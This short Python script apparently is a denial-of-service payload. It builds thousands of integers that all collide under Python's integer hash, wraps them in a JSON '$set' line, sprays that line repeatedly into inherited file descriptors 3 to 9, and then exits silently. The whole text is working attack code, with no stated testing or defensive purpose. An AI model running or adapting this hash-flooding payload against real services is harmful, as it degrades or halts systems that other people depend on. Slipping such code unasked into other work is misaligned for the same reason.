import os

PRIME = 2**61 - 1
COLLIDING = ",".join(str(i * PRIME) for i in range(1, 11_000))
LINE = f'{{"value":{{"$set":[{COLLIDING}]}}}}\n'.encode()


def spread(i):
    for fd in range(3, 10):
        try:
            for _ in range(60):
                os.write(fd, LINE)
        except OSError:
            pass
    os._exit(0)
